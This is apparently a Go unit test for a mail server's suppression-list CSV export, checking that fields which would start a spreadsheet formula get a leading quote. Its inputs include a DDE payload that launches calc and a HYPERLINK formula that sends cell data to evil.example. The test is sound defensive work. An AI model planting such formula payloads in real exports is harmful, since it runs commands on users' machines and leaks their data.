package suppress

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/commserver/commserver/internal/comm"
	"github.com/commserver/commserver/internal/store"
)

// TestNoFieldOfAnExportIsAFormula (S45): whatever was stored, no field of the CSV begins with what
// a spreadsheet calculates; a quote before it says so, and is the only thing that is added. The
// file is RFC 4180: quotes are doubled, fields with commas, quotes and line breaks are quoted.
func TestNoFieldOfAnExportIsAFormula(t *testing.T) {
	t.Parallel()
	const calculated = "=+-@\t\r"
	var page []store.Suppression
	for first := range strings.SplitSeq(calculated, "") {
		for _, rest := range []string{"", "1+1", `cmd|' /C calc'!A0`, `HYPERLINK("https://evil.example/?x="&A1,"a")`, "a,b", "a\r\nb", `"`, first} {
			page = append(page, store.Suppression{Channel: comm.Email, Address: first + "a@example.com", Reason: comm.SuppressManual, Note: first + rest, Source: comm.SuppressByAPI})
		}
	}
	var b bytes.Buffer
	if err := Header(&b, CSV); err != nil {
		t.Fatal(err)
	}
	if err := Rows(&b, CSV, page); err != nil {
		t.Fatal(err)
	}
	text := b.String()
	if lines := strings.Count(text, "\r\n"); lines < len(page)+1 || strings.Contains(strings.ReplaceAll(text, "\r\n", ""), "\n") {
		t.Errorf("%d line ends of %d rows, or others than CR and LF", lines, len(page))
	}
	r := csv.NewReader(strings.NewReader(text))
	r.FieldsPerRecord = len(columns())
	records, err := r.ReadAll()
	if err != nil || len(records) != len(page)+1 {
		t.Fatalf("%d records: %v", len(records), err)
	}
	for i, record := range records[1:] {
		for _, field := range record {
			if field != "" && strings.Contains(calculated, field[:1]) {
				t.Errorf("a formula: %q", field)
			}
		}
		if page[i].Note[0] == '\r' {
			continue // no note holds one, and the writer of the standard library leaves it out
		}
		note := strings.ReplaceAll(page[i].Note, "\r\n", "\n") // the reader's own doing
		if record[1] != "'"+page[i].Address || record[3] != "'"+note || plain(record[3]) != note {
			t.Errorf("%q became %q", page[i].Note, record[3])
		}
	}
}
